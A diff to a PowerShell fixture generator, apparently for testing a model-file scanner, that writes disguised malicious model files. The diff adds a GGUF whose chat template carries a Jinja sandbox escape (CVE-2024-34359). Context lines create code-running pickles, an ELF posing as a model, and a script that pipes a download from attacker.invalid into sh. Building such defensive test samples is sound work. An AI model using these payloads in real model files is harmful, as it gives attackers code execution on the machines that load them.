@@ -12,6 +12,8 @@
       malicious/vectors.safetensors      a protocol-4 pickle (builtins.eval) named as SafeTensors
       malicious/qwen2.5-7b-instruct.gguf a native ELF executable named as a GGUF model
       malicious/setup-model.sh           a shell script among the models
+      malicious/llama-3-8b-instruct.Q4_K_M.gguf
+                                         a GGUF whose chat template escapes the Jinja sandbox (CVE-2024-34359)
 #>
 [CmdletBinding()]
 param([Parameter(Mandatory)][string] $Path)
@@ -30,15 +32,20 @@ function Write-GgufString([IO.BinaryWriter] $Writer, [string] $Value) {
 }
 
 function New-GgufBytes {
-    # GGUF v3: two string KVs, the alignment, one 32x2 F32 tensor at offset 0 of the aligned data.
+    # GGUF v3: string KVs (and a chat template when given), the alignment, one 32x2 F32 tensor at
+    # offset 0 of the aligned data.
+    param([string] $Name = 'TinyLlama 1.1B Chat sample', [string] $ChatTemplate)
     $w = New-ByteWriter
     $w.Write([Text.Encoding]::ASCII.GetBytes('GGUF'))
     $w.Write([uint32]3)
     $w.Write([uint64]1)
-    $w.Write([uint64]3)
+    $w.Write([uint64]$(if ($ChatTemplate) { 4 } else { 3 }))
     Write-GgufString $w 'general.architecture'; $w.Write([uint32]8); Write-GgufString $w 'llama'
-    Write-GgufString $w 'general.name'; $w.Write([uint32]8); Write-GgufString $w 'TinyLlama 1.1B Chat sample'
+    Write-GgufString $w 'general.name'; $w.Write([uint32]8); Write-GgufString $w $Name
     Write-GgufString $w 'general.alignment'; $w.Write([uint32]4); $w.Write([uint32]32)
+    if ($ChatTemplate) {
+        Write-GgufString $w 'tokenizer.chat_template'; $w.Write([uint32]8); Write-GgufString $w $ChatTemplate
+    }
     Write-GgufString $w 'token_embd.weight'
     $w.Write([uint32]2); $w.Write([uint64]32); $w.Write([uint64]2); $w.Write([uint32]0); $w.Write([uint64]0)
     while ($w.BaseStream.Length % 32) { $w.Write([byte]0) }
@@ -149,6 +156,8 @@ New-Item -ItemType Directory -Path $benign, $malicious -Force | Out-Null
 [IO.File]::WriteAllBytes((Join-Path $malicious 'pytorch_model.bin'), [Text.Encoding]::ASCII.GetBytes("cos`nsystem`n(S'echo pwned'`ntR."))
 [IO.File]::WriteAllBytes((Join-Path $malicious 'vectors.safetensors'), (New-Protocol4EvalPickle))
 [IO.File]::WriteAllBytes((Join-Path $malicious 'qwen2.5-7b-instruct.gguf'), (New-ElfBytes))
+$escape = "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"
+[IO.File]::WriteAllBytes((Join-Path $malicious 'llama-3-8b-instruct.Q4_K_M.gguf'), (New-GgufBytes -Name 'Llama 3 8B Instruct' -ChatTemplate $escape))
 [IO.File]::WriteAllText((Join-Path $malicious 'setup-model.sh'), "#!/bin/sh`ncurl -s http://attacker.invalid/x | sh`n")
 
 Get-ChildItem -LiteralPath $Path -Recurse -File
